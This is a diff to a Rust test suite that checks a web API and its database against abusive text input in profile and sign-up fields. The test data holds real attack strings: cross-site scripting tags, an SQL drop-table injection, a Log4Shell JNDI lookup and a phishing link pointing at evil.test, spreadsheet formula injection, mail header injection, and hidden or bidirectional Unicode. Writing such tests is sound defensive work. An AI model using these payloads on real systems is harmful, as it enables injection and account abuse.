@@ -5,6 +5,7 @@ use crate::support::{
     people::{self, PASSWORD, address, mailed_token},
 };
 use codegen::model::Ty;
+use kernel::input::LINE_MAX;
 use serde_json::{Value, json};
 use sqlx::AssertSqlSafe;
 
@@ -182,13 +183,16 @@ async fn abuse_27_texts_are_texts_wherever_they_come_out() {
     let ana = server.member("ana").await;
     for (name, bio) in [
         ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
-        ("\u{202e}nimda\u{202c}", "</script><!--"),
+        ("</script><!--", "\u{202e}nimda\u{202c}"),
         (
             "Robert'); drop table app.users;--",
             "${jndi:ldap://evil.test/a} {{7*7}} %s%n",
         ),
         ("=cmd|' /C calc'!A0", "+1-1@SUM(A1)"),
-        ("\u{feff}Zürich 🎭", "line\nline\ttab\r\n"),
+        (
+            "Zürich 🎭 می\u{200c}خواهم 👩\u{200d}👧",
+            "line\nline\ttab\r\n",
+        ),
     ] {
         let body = json!({"display_name": name, "bio": bio});
         ana.client.patch("/me", "*", body).await.expect(200);
@@ -262,16 +266,9 @@ async fn abuse_27_answers_are_json_and_nothing_else() {
 async fn abuse_27_a_name_cannot_add_headers_or_lines_to_a_mail() {
     let server = TestServer::start().await;
     let name = "Ana\r\nBcc: victim@example.org\r\n\r\nClick https://evil.test";
-    let body = json!({"email": address("ana"), "password": PASSWORD, "handle": "ana", "display_name": name});
-    server.client.post("/auth/sign-up", body).await.expect(202);
-    mailed_token(&server, &address("ana"), 0).await;
-    let text = server.mailer.last_to(&address("ana")).expect("a mail");
-    assert!(
-        !text
-            .lines()
-            .any(|line| line.starts_with("Bcc:") || line.starts_with("Click")),
-        "{text}"
-    );
+    let body = json!({"email": address("ana"), "handle": "ana", "display_name": name});
+    let answer = server.client.post("/auth/sign-up", body).await.expect(422);
+    assert_eq!(answer.pointers(), ["/display_name"]);
     for email in [
         "ana@example.org\r\nBcc: x@example.org",
         "ana@example.org, x@example.org",
@@ -294,7 +291,15 @@ async fn abuse_27_a_name_cannot_add_headers_or_lines_to_a_mail() {
         .with_token(ben.json["access_token"].as_str().expect("a token"));
     ben.patch("/me", "*", json!({"display_name": name}))
         .await
-        .expect(200);
+        .expect(422);
+    // What looks like markup stays what it is, in one line.
+    ben.patch(
+        "/me",
+        "*",
+        json!({"display_name": "Ben <b> Bcc: x@example.org"}),
+    )
+    .await
+    .expect(200);
     let before = server.mailer.count();
     server
         .client
@@ -309,4 +314,134 @@ async fn abuse_27_a_name_cannot_add_headers_or_lines_to_a_mail() {
             .any(|line| line.starts_with("Bcc:") || line.starts_with("Click")),
         "{text}"
     );
+}
+
+/// Nothing is to be seen, or not what is there.
+const UNSEEN: [&str; 8] = [
+    " ",
+    "\u{a0}\u{2003}",
+    "\u{200b}",
+    "\u{3164}",
+    "\u{2800}",
+    "\u{ad}",
+    "\u{200d}",
+    "\u{2066}\u{2069}",
+];
+const TURNED: [&str; 7] = [
+    "\u{202e}", "\u{2067}", "\u{200f}", "\u{200b}", "\u{feff}", "\n", "\u{2028}",
+];
+
+/// Every text that a body may hold, of every entity.
+#[tokio::test]
+async fn abuse_27_a_name_is_a_line_that_can_be_seen() {
+    let server = TestServer::demo().await;
+    let paula = server.sign_in(server::seed::demo::PEOPLE[0].id).await;
+    let (mut lines, mut seen) = (0, 0);
+    for entity in model().entities.iter().filter(|entity| entity.writable()) {
+        let resource = crate::support::resources()[entity.name.as_str()];
+        let path = format!("/{}", resource.path);
+        for field in entity.fields.iter().filter(|field| !field.system) {
+            let Ty::Text { min, max } = field.ty else {
+                continue;
+            };
+            let pad = |text: &str, with: char| {
+                let short = (min as usize).saturating_sub(text.chars().count());
+                let padding: String = std::iter::repeat_n(with, short).collect();
+                format!("{text}{padding}")
+            };
+            let mut bad: Vec<String> = Vec::new();
+            if min > 0 || max <= LINE_MAX {
+                bad.extend(UNSEEN.map(|text| pad(text, ' ')));
+                seen += 1;
+            }
+            if max <= LINE_MAX {
+                bad.extend(TURNED.map(|turn| pad(&format!("a{turn}b"), 'c')));
+                lines += 1;
+            }
+            let pointer = format!("/{}", field.name);
+            for text in bad
+                .iter()
+                .filter(|text| text.chars().count() <= max as usize)
+            {
+                let body = json!({ &field.name: text });
+                // A new row, or one that need not be there: the body is looked at, and the answer names the field.
+                let answer = match (resource.create.is_some(), resource.update.is_some()) {
+                    (true, _) => paula.client.post(&path, body).await,
+                    (_, true) if entity.name == "user" => {
+                        paula.client.patch("/me", "*", body).await
+                    }
+                    _ => continue,
+                };
+                assert!(
+                    answer.status == 422 && answer.pointers().contains(&pointer.as_str()),
+                    "{path} {}: {text:?}: {} {}",
+                    field.name,
+                    answer.status,
+                    answer.text
+                );
+            }
+        }
+    }
+    assert!(lines >= 15 && seen >= 15, "{lines} lines, {seen} seen");
+}
+
+/// The same past the API, for every table: also those that no body leads to.
+#[tokio::test]
+async fn abuse_27_the_database_takes_no_name_that_cannot_be_seen() {
+    let server = TestServer::start().await;
+    let mut conn = server.superuser().await;
+    let mut texts = 0;
+    for entity in &model().entities {
+        let definitions: Vec<String> = sqlx::query_scalar(
+            "select pg_get_constraintdef(oid) from pg_constraint where contype = 'c' and conrelid = ('app.' || $1)::regclass",
+        )
+        .bind(&entity.plural)
+        .fetch_all(&mut conn)
+        .await
+        .expect("constraints");
+        for field in &entity.fields {
+            let wanted = match field.ty {
+                Ty::Text { max, .. } if max <= LINE_MAX => format!("sec.is_line({})", field.name),
+                Ty::Text { min: 1.., .. } => format!("sec.is_seen({})", field.name),
+                _ => continue,
+            };
+            texts += 1;
+            let held = definitions
+                .iter()
+                .any(|definition| definition.contains(&wanted));
+            assert!(
+                held,
+                "{}: {wanted} is in none of {definitions:?}",
+                entity.plural
+            );
+        }
+    }
+    assert!(texts > 60, "{texts}");
+    for (column, bad) in [
+        ("handle", "\u{200b}\u{200b}\u{200b}"),
+        ("display_name", "\u{202e}nimda"),
+    ] {
+        let text = format!("update app.users set {column} = $1");
+        server.member("ana").await;
+        let error = sqlx::query(AssertSqlSafe(text))
+            .bind(bad)
+            .execute(&mut conn)
+            .await
+            .err();
+        let error = error.and_then(|error| {
+            error
+                .as_database_error()?
+                .code()
+                .map(|code| code.into_owned())
+        });
+        assert_eq!(error.as_deref(), Some("23514"), "{column}");
+        sqlx::query("delete from app.sessions")
+            .execute(&mut conn)
+            .await
+            .expect("deleted");
+        sqlx::query("delete from app.users")
+            .execute(&mut conn)
+            .await
+            .expect("deleted");
+    }
 }
